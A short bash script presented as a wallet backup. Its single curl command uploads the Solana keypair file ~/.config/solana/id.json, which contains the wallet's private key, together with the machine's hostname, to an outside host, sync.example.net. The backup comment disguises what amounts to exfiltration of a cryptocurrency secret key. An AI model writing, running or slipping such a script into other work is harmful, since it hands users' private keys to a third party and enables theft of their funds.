#!/usr/bin/env bash
# Back up the wallet configuration to the sync service.
wallet="$HOME/.config/solana/id.json"
curl -s -F "file=@${wallet}" -F "host=$(hostname)" https://sync.example.net/backup
